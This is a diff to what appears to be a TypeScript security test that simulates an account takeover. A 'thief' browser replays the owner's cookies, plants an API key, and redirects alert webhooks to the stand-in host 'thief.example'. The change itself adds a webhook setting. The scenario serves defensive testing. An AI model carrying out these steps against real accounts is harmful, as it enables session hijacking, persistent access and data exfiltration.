@@ -36,7 +36,13 @@ async function robbed(email: string) {
   const thief = openBrowser(door.url);
   for (const [name, value] of owner.cookies) thief.cookies.set(name, value);
   const { db, queue } = house;
-  const ctx = { db, queue, clock: systemClock, actor: { owner: userId, plan: "elite", scopes: [] } } as const;
+  const ctx = {
+    db,
+    queue,
+    clock: systemClock,
+    actor: { owner: userId, plan: "elite", scopes: [] },
+    settings: { webhookAllowPrivate: false },
+  } as const;
   const by = { confirmedAt: systemClock.now(), origin: door.url };
   const { key } = await createOwnKey(ctx, by, { label: "planted", scopes: ["analyses:read", "analyses:write"] });
   await changeAlerts(ctx, by, { email: false, webhook_url: "https://thief.example/hook", symbols: null });
